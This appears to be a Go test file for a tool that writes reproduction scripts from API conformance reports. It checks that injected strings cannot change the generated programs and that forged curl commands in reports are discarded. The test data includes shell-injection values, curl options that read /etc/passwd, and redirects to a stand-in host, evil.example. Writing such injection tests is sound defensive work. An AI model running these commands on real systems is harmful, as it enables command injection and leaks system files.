package report

import (
	"fmt"
	"maps"
	"net/http"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/socialfeed/conform/conformance/report/script"
	"github.com/socialfeed/conform/conformance/result"
	"github.com/socialfeed/conform/conformance/rules"
	"github.com/socialfeed/conform/internal/testkit"
)

// attacked is a story of each kind of step, in which one text is an attack where the report says so.
func attackedReport() *result.Report {
	r := newReport(result.NonConformant, []result.Rule{newRule("users.get.other", rules.Must, broken(rules.GetUser, result.Fail, "404 Not Found", 500, "{}"))})
	r.Target.BaseURL, r.Target.Trust = "http://127.0.0.1:1", []string{"--ca-cert", "authority.pem"}
	check := &r.Rules[0].Checks[0]
	plain := usualFields()
	for i := range plain {
		if plain[i].Name == "User-Agent" {
			plain[i].Value = exactly("conform/dev") // which every form can send
		}
	}
	fields := append(slices.Clone(plain), result.Field{Name: "Content-Type", Value: exactly("application/json")})
	check.Expected, check.Actual = "404 Not Found", "500 with {}"
	check.Reproduction = &result.Reproduction{
		Words: []result.Word{{Var: "WORD_1", Length: 9}, {Var: "PASSWORD_1", Length: 64, Hex: true}},
		Steps: []result.Step{
			{Method: http.MethodPost, Path: exactly("/0.2/users?withLogin=true"), User: []result.Piece{{Var: "APP_TOKEN"}, {Text: ":"}}, Headers: fields,
				Body:     []result.Piece{{Text: `{"user_name":"a`}, {Var: "WORD_1"}, {Text: `","password":"`}, {Var: "PASSWORD_1"}, {Text: `"}`}},
				Captures: []result.Capture{{Var: "SESSION_TOKEN_1", Field: "session_token"}, {Var: "USER_ID_1", Field: "id"}}},
			{Method: http.MethodPost, Path: exactly("/0.2/user/connections"), User: []result.Piece{{Var: "APP_TOKEN"}, {Text: ":"}, {Var: "SESSION_TOKEN_1"}}, Headers: fields,
				Body: []result.Piece{{Text: `{"user_to_id":"`}, {Var: "USER_ID_1"}, {Text: `"}`}}},
			{Method: http.MethodGet, Path: []result.Piece{{Text: "/0.2/users/"}, {Var: "USER_ID_1"}}, User: []result.Piece{{Var: "APP_TOKEN"}, {Text: ":"}, {Var: "SESSION_TOKEN_1"}}, Headers: plain},
		},
		Answer:  result.Answer{Status: 500, Headers: []result.Field{{Name: "Content-Type", Value: exactly("application/json")}}, Body: exactly("{}")},
		Passing: []string{"404"}, Since: "2026-01-02T03:04:05Z",
	}
	return r
}

// texts are the places of the texts of a value, each of which can be set.
func texts(v reflect.Value, at string) map[string]reflect.Value {
	all := map[string]reflect.Value{}
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			maps.Copy(all, texts(v.Elem(), at))
		}
	case reflect.Struct:
		for i := range v.NumField() {
			maps.Copy(all, texts(v.Field(i), at+"."+v.Type().Field(i).Name))
		}
	case reflect.Slice:
		for i := range v.Len() {
			maps.Copy(all, texts(v.Index(i), fmt.Sprint(at, "[", i, "]")))
		}
	case reflect.String:
		if v.CanSet() {
			all[at] = v
		}
	}
	return all
}

// shareOfAttacks is that one in so many attacks at each place is tried, without ATTACKS=all.
const shareOfAttacks = 24

// TestNoTextOfAReportIsSyntax puts each attack into each text of a report, one at a time, and writes the
// program in each form. It is refused, or it does what it did without: the same calls in the same order.
func TestNoTextOfAReportIsSyntax(t *testing.T) {
	t.Parallel()
	const host = "evil.example:9977"
	written := map[script.Form]int{}
	for form := range writersOfForms() {
		for _, passing := range [][]string{{"404"}, nil} {
			base := attackedReport()
			base.Rules[0].Checks[0].Reproduction.Passing = passing
			want, err := programOf(form, base)
			if err != nil {
				if form == script.Hurl && passing == nil {
					continue
				}
				t.Fatalf("%s: %v", form, err)
			}
			for i, name := range slices.Sorted(maps.Keys(testkit.Attacks(host))) {
				attack := testkit.Attacks(host)[name]
				for k, at := range slices.Sorted(maps.Keys(texts(reflect.ValueOf(base), "report"))) {
					if os.Getenv("ATTACKS") != "all" && (i+k)%shareOfAttacks != 0 {
						continue
					}
					with := func(text string) (string, error) {
						forged := attackedReport()
						forged.Rules[0].Checks[0].Reproduction.Passing = slices.Clone(passing)
						texts(reflect.ValueOf(forged), "report")[at].SetString(text)
						return programOf(form, forged)
					}
					got, err := with(attack)
					if err != nil {
						continue
					}
					written[form]++
					harmless, err := with("harmless") // which may tell another story: an answer without a status, say
					if err != nil {
						harmless = want
					}
					if shape, base := shapeOf(t, form, got), shapeOf(t, form, harmless); shape != base {
						t.Errorf("%s with %s at %s is another program: %s\n%s", form, name, at, firstDifference(shape, base), got)
						return
					}
				}
			}
		}
	}
	for form := range writersOfForms() {
		if written[form] < 15 {
			t.Errorf("%s was written %d times alone", form, written[form])
		}
	}
}

// firstDifference is the first line in which two texts differ, in both.
func firstDifference(a, b string) string {
	first, second := strings.Split(a, "\n"), strings.Split(b, "\n")
	for i := range min(len(first), len(second)) {
		if first[i] != second[i] {
			return fmt.Sprintf("%q, not %q", first[i], second[i])
		}
	}
	return fmt.Sprint(len(first), " lines, not ", len(second))
}

func writersOfForms() map[script.Form]bool {
	return map[script.Form]bool{script.Shell: true, script.Hurl: true, script.HTTPFile: true, script.GoTest: true}
}

func programOf(form script.Form, r *result.Report) (string, error) {
	var b strings.Builder
	err := script.Write(&b, form, r, r.Rules[0], r.Rules[0].Checks[0])
	return b.String(), err
}

// TestCommandsOfForgedReportsAreLeftOut reads reports whose commands are attacks.
func TestCommandsOfForgedReportsAreLeftOut(t *testing.T) {
	t.Parallel()
	r := attackedReport()
	x := &r.Rules[0].Checks[0].Exchanges[0]
	r.Target.BaseURL = "https://feed.example"
	x.Request.URL = "https://feed.example/0.2/user"
	good := `curl -sS -i -u "$APP_TOKEN:$SESSION_TOKEN" -H 'Accept: a' 'https://feed.example/0.2/user'`
	for curl, kept := range map[string]bool{
		good:                    true,
		good + "; touch canary": false,
		strings.Replace(good, "-i", "-X `id`", 1):                  false,
		strings.Replace(good, "-i", "-X X;touch${IFS}canary;#", 1): false,
		strings.Replace(good, "-i", "-o canary", 1):                false,
		strings.Replace(good, "-i", "-K canary", 1):                false,
		strings.Replace(good, "-i", "-d @/etc/passwd", 1):          false,
		strings.Replace(good, "'Accept: a'", "'@/etc/passwd'", 1):  false,
		strings.Replace(good, "feed.example", "evil.example", 1):   false,
		strings.Replace(good, "//feed", "//feed.example@evil", 1):  false,
		strings.Replace(good, "curl", "sh", 1):                     false,
		"curl -sS\n" + good:                                        false,
	} {
		x.Curl = curl
		back, err := ReadJSON(strings.NewReader(asJSON(t, r)))
		if err != nil {
			t.Fatal(err)
		}
		if got := back.Rules[0].Checks[0].Exchanges[0].Curl; (got == curl) != kept || !kept && got != "" {
			t.Errorf("%s\nis read as %q", curl, got)
		}
	}
}
